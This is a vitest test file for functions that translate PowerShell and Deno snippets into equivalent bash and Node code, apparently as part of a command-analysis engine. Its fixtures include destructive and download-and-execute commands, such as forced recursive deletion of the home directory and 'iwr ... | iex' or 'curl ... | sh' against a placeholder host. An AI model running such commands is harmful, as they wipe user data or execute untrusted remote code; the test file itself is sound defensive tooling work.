/** PowerShell and Deno code as the bash / node code it amounts to (programs/powershell.ts). */
import { describe, expect, it } from 'vitest';
import { denoToNode, powershellToBash } from '../../../../src/engine/extract/programs/powershell.js';

describe('powershellToBash', () => {
  it.each([
    ['Remove-Item -Recurse -Force ~', 'rm -r -f ~'],
    ['Invoke-WebRequest http://h/x | Invoke-Expression', 'curl http://h/x | sh'],
    ['iwr http://h/x -UseBasicParsing | iex', 'curl http://h/x  | sh'],
    ["IEX (New-Object Net.WebClient).DownloadString('http://h/x')", `eval "$(curl 'http://h/x')"`],
    ['Remove-Item -Path $env:TEMP\\x', 'rm  $TEMP\\x'],
    ['Get-ChildItem ./src', 'Get-ChildItem ./src'],
  ])('%s', (code, bash) => {
    expect(powershellToBash(code)).toBe(bash);
  });
});

describe('denoToNode', () => {
  it.each([
    [
      'Deno.removeSync(Deno.env.get("HOME"), {recursive: true})',
      'require("fs").rmSync(process.env.HOME, {recursive: true})',
    ],
    [
      'new Deno.Command("sh", {args: ["-c", "x"]})',
      'require("child_process").spawnSync("sh", {args: ["-c", "x"]})',
    ],
    ['console.log(1)', 'console.log(1)'],
  ])('%s', (code, node) => {
    expect(denoToNode(code)).toBe(node);
  });
});
